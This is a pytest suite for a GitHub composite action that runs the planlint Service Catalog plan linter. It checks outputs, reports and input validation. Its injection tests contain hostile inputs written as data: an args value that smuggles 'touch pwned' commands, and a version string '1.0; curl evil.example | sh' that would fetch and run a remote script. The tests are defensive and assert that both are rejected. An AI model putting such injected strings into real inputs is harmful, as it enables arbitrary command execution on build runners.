"""The GitHub Action: ``action.yml`` wires every input and output, no input is pasted into a shell,
and its steps' scripts do what a runner needs — run with the environment a runner gives them."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from planlint.testing import change, plan_document
from tests.conftest import FIXTURES, ROOT, write_json
from tests.reports import check_junit, check_sarif

pytestmark = pytest.mark.slow  # processes, loopback fakes, timeouts: not in the quick subset

ACTION = yaml.safe_load((ROOT / "action.yml").read_text())


def test_every_input_reaches_a_step_and_no_input_is_pasted_into_a_script():
    steps = ACTION["runs"]["steps"]
    assert ACTION["runs"]["using"] == "composite"
    wired = " ".join(str(step.get("env", {})) + str(step.get("working-directory", "")) for step in steps)
    for name in ACTION["inputs"]:
        assert f"inputs.{name} }}}}" in wired, f"input {name} reaches no step"
    for step in steps:
        assert "${{" not in step["run"], f"{step['name']}: an expression in a script can inject a command"
        assert step["shell"] == "bash"


def test_every_output_is_one_the_script_writes():
    import importlib.util

    spec = importlib.util.spec_from_file_location("action_run", ROOT / "action" / "run.py")
    assert spec is not None and spec.loader is not None
    script = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(script)
    COUNTS = script.COUNTS
    for name, output in ACTION["outputs"].items():
        assert output["value"] == f"${{{{ steps.planlint.outputs.{name} }}}}"
    assert set(ACTION["outputs"]) == {"exit-code", *COUNTS}


@pytest.fixture
def runner(tmp_path: Path) -> dict[str, str]:
    """The environment a GitHub-hosted runner gives a composite action's step, in a checkout."""
    workspace = tmp_path / "workspace"
    (workspace / ".git").mkdir(parents=True)
    (workspace / "plans").mkdir()
    shutil.copy(FIXTURES / "demo.json", workspace / "plans" / "demo.json")
    temp = tmp_path / "runner-temp"
    temp.mkdir()
    (temp / "summary.md").write_text("## Tests\n\nall green\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "PLANLINT_", "INPUT_"))}
    env.update(
        GITHUB_ACTIONS="true",
        CI="true",
        GITHUB_WORKSPACE=str(workspace),
        GITHUB_ACTION_PATH=str(ROOT),
        GITHUB_OUTPUT=str(temp / "output"),
        GITHUB_STEP_SUMMARY=str(temp / "summary.md"),
        RUNNER_TEMP=str(temp),
        # the defaults of action.yml's inputs, as the runner passes them
        **{
            f"PLANLINT_{name.upper().replace('-', '_')}": str(i.get("default", ""))
            for name, i in ACTION["inputs"].items()
        },
    )
    env.pop("PLANLINT_VERSION"), env.pop("PLANLINT_WORKING_DIRECTORY")
    return env


def run_step(env: dict[str, str], **inputs: str) -> subprocess.CompletedProcess[str]:
    env = {**env, **{f"PLANLINT_{k.upper()}": v for k, v in inputs.items()}}
    return subprocess.run(
        [sys.executable, str(ROOT / "action" / "run.py")],
        cwd=env["GITHUB_WORKSPACE"],
        env=env,
        capture_output=True,
        text=True,
    )


def step_outputs(env: dict[str, str]) -> dict[str, str]:
    return dict(line.split("=", 1) for line in Path(env["GITHUB_OUTPUT"]).read_text().splitlines())


def test_a_failing_plan_fails_the_step_with_outputs_reports_annotations_and_summary(runner):
    result = run_step(runner, paths="plans", sarif_file="reports/planlint.sarif", junit_file="reports/planlint.xml")
    assert result.returncode == 1, result.stderr
    assert step_outputs(runner) == {
        "exit-code": "1",
        "errors": "2",
        "warnings": "8",
        "notes": "0",
        "waived": "0",
        "plans": "1",
    }
    workspace = Path(runner["GITHUB_WORKSPACE"])
    log = check_sarif((workspace / "reports" / "planlint.sarif").read_text())
    assert log["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == (
        "plans/demo.json"
    )
    check_junit((workspace / "reports" / "planlint.xml").read_text())
    summary = Path(runner["GITHUB_STEP_SUMMARY"]).read_text()
    assert summary.startswith("## Tests\n\nall green\n## planlint: :x: failed\n")  # appended, not replaced
    assert result.stdout.startswith("::error file=plans/demo.json,line=59,title=PL101 stateful-replacement::")
    assert result.stdout.splitlines()[-1] == (
        "::error title=planlint::2 errors, 8 warnings in 1 plan (14 changes); 3 parameter values masked as **** "
        "wherever they appear; name the parameters that are not secret in public-parameters (configuration) to show them"
    )
    assert result.stderr.startswith("planlint: running planlint lint --fail-on error --format json --output ")


def test_a_clean_plan_passes_and_inputs_turn_reports_off(runner):
    workspace = Path(runner["GITHUB_WORKSPACE"])
    (workspace / "plans" / "demo.json").unlink()
    write_json(workspace / "plans" / "clean.json", plan_document(change("ADD", "Topic", "AWS::SNS::Topic")))
    before = Path(runner["GITHUB_STEP_SUMMARY"]).read_text()
    result = run_step(runner, paths="plans/clean.json", summary="false", annotations="false", fail_on="warning")
    assert result.returncode == 0, result.stderr
    assert step_outputs(runner)["exit-code"] == "0" and step_outputs(runner)["errors"] == "0"
    assert Path(runner["GITHUB_STEP_SUMMARY"]).read_text() == before
    assert "::" not in result.stdout and "in 1 plan (1 change)" in result.stdout  # the text report instead


def test_args_are_words_never_a_shell_command(runner):
    workspace = Path(runner["GITHUB_WORKSPACE"])
    result = run_step(runner, paths="plans", args='--select data-loss; touch pwned $(touch pwned2) "a b"')
    assert not (workspace / "pwned").exists() and not (workspace / "pwned2").exists()
    assert result.returncode == 2  # "data-loss;", "touch", "pwned", … are not rules or plans
    assert step_outputs(runner)["exit-code"] == "2"


def test_a_path_that_looks_like_an_option_is_a_path(runner):
    workspace = Path(runner["GITHUB_WORKSPACE"])
    shutil.copy(FIXTURES / "demo.json", workspace / "--fail-on=never.json")
    result = run_step(runner, paths="--fail-on=never.json")
    assert result.returncode == 1, result.stderr


@pytest.mark.parametrize(
    "inputs,message",
    [
        ({"fail_on": "sometimes"}, "fail-on must be one of error, warning, note, never, got 'sometimes'"),
        ({"command": "destroy"}, "command must be lint or execute, got 'destroy'"),
        ({"summary": "yes"}, "summary must be true or false, got 'yes'"),
        ({"paths": ""}, "nothing to lint: give paths or plan-ids"),
        ({"command": "execute"}, "command execute fetches its plan: give plan-ids, not paths"),
        ({"args": "--select 'unclosed"}, "args cannot be split into words: No closing quotation"),
    ],
)
def test_bad_inputs_are_one_annotation_and_exit_2(runner, inputs, message):
    result = run_step(runner, **{"paths": "plans", **inputs})
    assert result.returncode == 2
    assert result.stdout == f"::error title=planlint::{message}\n"
    assert step_outputs(runner) == {
        "exit-code": "2",
        "errors": "",
        "warnings": "",
        "notes": "",
        "waived": "",
        "plans": "",
    }


def test_execute_through_the_action_against_the_service_catalog_fake(runner, monkeypatch):
    from tests.fake_servicecatalog import FakeServiceCatalog

    server = FakeServiceCatalog().start()
    try:
        server.add_plan(plan_document(change("ADD", "Topic", "AWS::SNS::Topic"), plan_id="pl-action000000001"))
        aws = {
            "AWS_ENDPOINT_URL_SERVICE_CATALOG": server.url,
            "AWS_ACCESS_KEY_ID": "AKIAPLANLINTTESTING",
            "AWS_SECRET_ACCESS_KEY": "planlint-testing-secret",
            "AWS_DEFAULT_REGION": "us-east-1",
            "AWS_EC2_METADATA_DISABLED": "true",
        }
        env = {**runner, **aws}
        result = run_step(env, command="execute", paths="", plan_ids="pl-action000000001", args="--poll-interval 0.01")
        assert result.returncode == 0, result.stderr
        assert [op for op, _ in server.requests].count("ExecuteProvisionedProductPlan") == 1
        assert step_outputs(env)["exit-code"] == "0" and step_outputs(env)["plans"] == "1"
    finally:
        server.stop()


def test_install_refuses_a_version_that_is_not_one(runner, tmp_path: Path):
    env = {**runner, "PLANLINT_VERSION": "1.0; curl evil.example | sh"}
    result = subprocess.run(["bash", str(ROOT / "action" / "install.sh")], env=env, capture_output=True, text=True)
    assert result.returncode == 2
    assert re.fullmatch(
        r"::error title=planlint::version '1\.0\?\?curl\?evil\.example\?\?\?sh' is not a version number\n",
        result.stderr,
    )
    assert not (Path(runner["RUNNER_TEMP"]) / "planlint-venv").exists()


@pytest.mark.timeout(900)
def test_the_install_step_installs_this_checkout_and_the_run_step_uses_it(runner, package_index):
    env = {**runner, "PLANLINT_VERSION": ""}
    installed = subprocess.run(["bash", str(ROOT / "action" / "install.sh")], env=env, capture_output=True, text=True)
    assert installed.returncode == 0, installed.stderr
    from planlint import __version__

    assert installed.stdout == f"planlint {__version__}\n"
    python = Path(runner["RUNNER_TEMP"]) / "planlint-venv" / "bin" / "python"
    result = subprocess.run(
        [str(python), str(ROOT / "action" / "run.py")],
        cwd=env["GITHUB_WORKSPACE"],
        env={**env, "PLANLINT_PATHS": "plans"},
        capture_output=True,
        text=True,
    )
    assert result.returncode == 1, result.stderr
    assert step_outputs(env)["errors"] == "2"


def test_the_readme_documents_every_input_and_output():
    readme = (ROOT / "README.md").read_text()
    table = readme[readme.index("| input | default | meaning |") :]
    table = table[: table.index("\n\n")]
    documented = {
        name for cell in re.findall(r"^\| (`[^|]+`) \|", table, re.M) for name in re.findall(r"`([^`]+)`", cell)
    }
    assert documented == set(ACTION["inputs"])
    for name in ACTION["outputs"]:
        assert f"`{name}`" in readme
